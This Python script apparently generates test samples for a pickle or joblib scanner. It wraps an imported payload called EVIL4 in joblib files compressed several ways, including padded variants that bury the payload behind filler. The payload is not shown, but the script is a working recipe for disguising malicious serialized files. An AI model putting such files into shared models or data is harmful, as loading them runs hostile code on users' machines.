# What runs is compressed, in every way that joblib knows.
import bz2
import gzip
import lzma
import zlib

from pickle_asm import *


def dtype(code, hasobject=False):
    flags, order = (63, "|") if hasobject else (0, "<")
    return (stack_global("numpy", "dtype") + args(code, False, True) + REDUCE
            + args(3, order, None, None, None, -1, -1, flags) + BUILD)


def wrapper(shape, kind, **more):
    # The array's bytes follow right behind.
    state = {"shape": shape, "order": "C", "allow_mmap": False, **more}
    body = (stack_global("joblib.numpy_pickle", "NumpyArrayWrapper") + EMPTY_TUPLE + NEWOBJ + EMPTY_DICT + MARK
            + b"".join(text(key) + constant(value) for key, value in state.items())
            + text("subclass") + stack_global("numpy", "ndarray") + text("dtype") + kind + SETITEMS)
    return body + BUILD


OBJECTS = dtype("O8", True)
EVIL_FILE = framed(EVIL4 + STOP)


for name, packed in [("zlib", zlib.compress(EVIL_FILE)), ("gzip", gzip.compress(EVIL_FILE, mtime=0)), ("bz2", bz2.compress(EVIL_FILE)),
                     ("xz", lzma.compress(EVIL_FILE)), ("lzma", lzma.compress(EVIL_FILE, lzma.FORMAT_ALONE))]:
    save(f"{name}.joblib", packed)
    save(f"{name}_padded.joblib", packed[:0] + {"zlib": zlib.compress, "bz2": bz2.compress, "xz": lzma.compress}.get(
        name, zlib.compress)(proto(4) + text("x" * 100000) + POP + EVIL4 + STOP))
packed = zlib.compress(EVIL_FILE)
save("zfile.joblib", b"ZF" + hex(len(EVIL_FILE)).encode().ljust(19) + packed)
